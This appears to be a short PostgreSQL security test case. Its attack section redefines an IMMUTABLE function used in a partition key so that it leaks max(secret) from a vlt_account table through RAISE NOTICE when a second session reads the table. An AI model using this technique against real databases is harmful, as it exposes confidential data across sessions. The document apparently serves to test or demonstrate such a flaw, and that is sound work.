-- Reads a table whose partition key has a part that PostgreSQL works out beforehand, and reads.
-- wants: read
-- attack:
CREATE FUNCTION least_of(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN $1; END';
CREATE TABLE split (n int) PARTITION BY RANGE ((n + least_of(1)));
CREATE TABLE split_all PARTITION OF split DEFAULT;
CREATE OR REPLACE FUNCTION least_of(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
  BEGIN RAISE NOTICE '%', (SELECT max(secret) FROM public.vlt_account); RETURN $1; END $$;
DO $$ BEGIN EXECUTE 'COMMENT ON TABLE split IS ''x'''; END $$;
-- session: second
SELECT n FROM split;
